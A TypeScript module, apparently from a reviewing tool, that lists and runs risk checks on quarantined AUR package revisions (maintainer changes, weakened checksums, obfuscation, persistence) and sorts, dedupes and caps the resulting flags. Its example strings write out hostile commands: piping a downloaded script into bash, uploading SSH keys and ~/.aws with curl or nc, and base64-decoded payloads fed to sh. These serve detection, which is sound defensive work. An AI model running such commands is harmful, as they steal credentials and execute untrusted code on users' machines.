/**
 * Automatic risk flags for a quarantined AUR revision: pure functions over the last approved
 * revision, the candidate and their upstream metadata. Only what is new or changed relative to
 * the previous revision is flagged (for a first revision everything is new).
 */

import { checkAssembledCommand } from './check-assembled.js';
import { checkBuildChangedSameVersion } from './check-build-changed.js';
import { checkChecksums } from './check-checksums.js';
import { checkDownloadAndRun, checkPackageManagers } from './check-commands.js';
import { checkExfiltration } from './check-exfiltration.js';
import { checkForeignCodeRun } from './check-foreign-code.js';
import { checkNetworkFetch } from './check-network.js';
import { checkBinaryOrLargeFile, checkInstallScriptlet } from './check-files.js';
import { checkObfuscation } from './check-obfuscation.js';
import { checkPersistence } from './check-persistence.js';
import { checkSources } from './check-sources.js';
import { checkSrcinfoMismatch } from './check-srcinfo.js';
import { checkMaintainerChange, checkYoungRevision } from './check-upstream.js';
import { hiddenInIntermediateCommits } from './commits.js';
import { SEVERITY_ORDER, type RiskCheck, type RiskFlag, type RiskInput } from './types.js';

export type { CommitFiles, RevisionFile, RevisionFiles, RiskCheck, RiskFlag, RiskInput, Severity, UpstreamMeta } from './types.js';
export { addedLines, type NumberedLine } from './lines.js';
export { parseBash } from './bash.js';
export { anchorRowInDiff, decodePayloads, flagAnchor, type DecodedPayload, type DecodeOptions, type FlagAnchor } from './payload.js';
export {
  checkAssembledCommand,
  checkBinaryOrLargeFile,
  checkExfiltration,
  checkForeignCodeRun,
  checkNetworkFetch,
  checkBuildChangedSameVersion,
  checkChecksums,
  checkDownloadAndRun,
  checkInstallScriptlet,
  checkMaintainerChange,
  checkObfuscation,
  checkPackageManagers,
  checkPersistence,
  checkSources,
  checkSrcinfoMismatch,
  checkYoungRevision,
};

export interface RiskCheckInfo {
  id: string;
  title: string;
  /** Severity or severities the check can raise, e.g. "high" or "high/medium/low". */
  severity: string;
  /** A one-line example of what it flags. */
  example: string;
}

/** Every check, in the order analyzeRisk runs them, with its id and documentation. */
export const CHECKS: ReadonlyArray<RiskCheckInfo & { run: RiskCheck }> = [
  {
    id: 'maintainer-change',
    title: 'Maintainer, submitter or co-maintainers changed',
    severity: 'high/medium/low',
    example: 'the orphaned package was adopted by "newuser" just before this revision',
    run: checkMaintainerChange,
  },
  {
    id: 'install-scriptlet',
    title: 'Install scriptlet added or changed (runs as root at install time), once, by what its new lines run',
    severity: 'medium/low/info',
    example: 'foo.install now runs `/opt/foo/setup --register` (medium); only `echo` and `gtk-update-icon-cache` (info)',
    run: checkInstallScriptlet,
  },
  {
    id: 'sources',
    title: 'New download location that is unencrypted, foreign to url=, a paste/shortener/IP host, or a download moved to another origin',
    severity: 'high/medium',
    example: '`source=("https://pastebin.com/raw/x")`; a -bin .deb moved from github.com/vendor to github.com/someone-else',
    run: checkSources,
  },
  {
    id: 'foreign-code-run',
    title: 'A newly added foreign source (another forge account, other host, unpinned VCS) is run by the build',
    severity: 'high/medium',
    example: '`source+=("fix::git+https://github.com/newuser/fix.git")` and `bash "$srcdir/fix/install.sh"` in package()',
    run: checkForeignCodeRun,
  },
  {
    id: 'checksums',
    title: 'Integrity checks weakened',
    severity: 'high/medium/info',
    example: '`sha256sums` removed, `SKIP` for a tarball, `validpgpkeys` removed (per-architecture arrays replacing a generic one are info)',
    run: checkChecksums,
  },
  {
    id: 'package-managers',
    title: 'Language package manager fetches dependencies during the build',
    severity: 'medium',
    example: '`npm install`, `pip install`, `cargo install`, `go install` in build()',
    run: checkPackageManagers,
  },
  {
    id: 'download-and-run',
    title: 'Downloads and runs code, or opens a raw connection with a program attached',
    severity: 'high',
    example: '`curl -s https://x.y/z.sh | bash` in package()',
    run: checkDownloadAndRun,
  },
  {
    id: 'network-fetch',
    title: 'Fetches from the network outside source=(); high at install time, at the top level, or when pkgver() starts fetching',
    severity: 'high/medium',
    example: '`pkgver() { curl -s https://x.y/v | sh; }` in an update; `wget` in build() (medium)',
    run: checkNetworkFetch,
  },
  {
    id: 'exfiltration',
    title: 'Sends data out (uploads, raw connections, remote copies) or reads credentials or the environment',
    severity: 'high/medium',
    example: '`curl -F f=@$HOME/.ssh/id_ed25519 https://x.y`, `tar c ~/.aws | nc x.y 443`, `env | curl -d @- …`',
    run: checkExfiltration,
  },
  {
    id: 'assembled-command',
    title: 'Command name or script built at run time: variables, indirection, eval, `${VAR:-sh}` at the end of a pipe',
    severity: 'high/medium/low',
    example: '`c=cu r=rl; $c$r -s x.y | ${SHELL:-sh}`, `eval "$p"`, `bash -c "$x"`, `$(printf \'\\x63\\x75\\x72\\x6c\') -s x.y`',
    run: checkAssembledCommand,
  },
  {
    id: 'obfuscation',
    title: 'Obfuscated or encoded code',
    severity: 'high',
    example: "`echo aGVsbG8= | base64 -d | sh`, `'c''u''r''l'`, long base64/hex blobs (comments are not read)",
    run: checkObfuscation,
  },
  {
    id: 'persistence',
    title: 'Persistence or privilege on the live system (systemd, cron, shell rc, SSH keys, setuid); files under $pkgdir are packaging',
    severity: 'high/medium/low/info',
    example: '`systemctl enable --now evil.service` (high); `install -Dm644 x.sh "$pkgdir/etc/profile.d/x.sh"` (info)',
    run: checkPersistence,
  },
  {
    id: 'binary-or-large-file',
    title: 'Binary or large file added',
    severity: 'medium',
    example: 'a 2 MiB `helper.bin` added next to PKGBUILD',
    run: checkBinaryOrLargeFile,
  },
  {
    id: 'build-changed-same-version',
    title: 'Build changed without a pkgver or pkgrel bump',
    severity: 'medium',
    example: 'package() gained a line while pkgver=1.2.3 and pkgrel=1 stayed',
    run: checkBuildChangedSameVersion,
  },
  {
    id: 'srcinfo-mismatch',
    title: '.SRCINFO disagrees with PKGBUILD or is missing',
    severity: 'high',
    example: '.SRCINFO says pkgver 1.2.3 but PKGBUILD builds 1.2.4 from another source',
    run: checkSrcinfoMismatch,
  },
  {
    id: 'young-revision',
    title: 'Revision committed very recently',
    severity: 'medium/low',
    example: 'committed 20 minutes ago (< 1 h: medium, < 24 h: low)',
    run: checkYoungRevision,
  },
];

/** The checks for documentation (rendered into the project README). */
export const RISK_CHECKS: Array<{ id: string; title: string; severity: string; example: string }> = CHECKS.map(
  ({ id, title, severity, example }) => ({ id, title, severity, example }),
);

const cmp = (a: string | number | undefined, b: string | number | undefined): number => {
  if (a === b) return 0;
  if (a === undefined) return -1; // package-level flags (no file/line) first
  if (b === undefined) return 1;
  return a < b ? -1 : 1;
};

/** Severity (high first), then file, then line, then check id and reason for a stable order. */
export function compareFlags(a: RiskFlag, b: RiskFlag): number {
  return (
    SEVERITY_ORDER[a.severity] - SEVERITY_ORDER[b.severity] ||
    cmp(a.file, b.file) ||
    cmp(a.line, b.line) ||
    cmp(a.check, b.check) ||
    cmp(a.reason, b.reason)
  );
}

/**
 * On one line, a flag of the first check says less than one of these checks at the same or a
 * higher severity (`curl x | sh` is a download-and-run, not also a network fetch), so it is dropped:
 * each fact once, at its most telling line.
 */
const SUBSUMED_BY: Record<string, readonly string[]> = {
  'network-fetch': ['download-and-run', 'exfiltration', 'assembled-command', 'foreign-code-run', 'obfuscation'],
  'package-managers': ['foreign-code-run'],
  obfuscation: ['assembled-command'],
};

export function dedupeFlags(flags: RiskFlag[]): RiskFlag[] {
  return flags.filter((f) => {
    const over = SUBSUMED_BY[f.check];
    if (!over || f.line === undefined) return true;
    return !flags.some(
      (g) => g !== f && g.file === f.file && g.line === f.line && over.includes(g.check) && SEVERITY_ORDER[g.severity] <= SEVERITY_ORDER[f.severity],
    );
  });
}

/** A hostile revision can repeat one line thousands of times; past this many flags of one check, one flag sums up the rest. */
export const MAX_FLAGS_PER_CHECK = 50;

function capped(flags: RiskFlag[]): RiskFlag[] {
  const out: RiskFlag[] = [];
  const counts = new Map<string, number>();
  for (const f of flags) {
    const n = (counts.get(f.check) ?? 0) + 1;
    counts.set(f.check, n);
    if (n <= MAX_FLAGS_PER_CHECK) out.push(f);
  }
  for (const [check, n] of counts) {
    if (n <= MAX_FLAGS_PER_CHECK) continue;
    const worst = flags.filter((f) => f.check === check).sort(compareFlags)[0]!;
    out.push({
      check,
      severity: worst.severity,
      reason: `${check} found ${n - MAX_FLAGS_PER_CHECK} more lines like the ones above; review the whole file.`,
    });
  }
  return out;
}

/** Runs every check and returns the flags sorted by severity, file and line (with intermediate commits when given). */
export function analyzeRisk(input: RiskInput): RiskFlag[] {
  const flags = dedupeFlags(CHECKS.flatMap((c) => c.run(input)));
  const hidden = input.intermediate?.length ? hiddenInIntermediateCommits(input, flags, CHECKS, dedupeFlags) : [];
  return capped([...flags, ...hidden].sort(compareFlags)).sort(compareFlags);
}
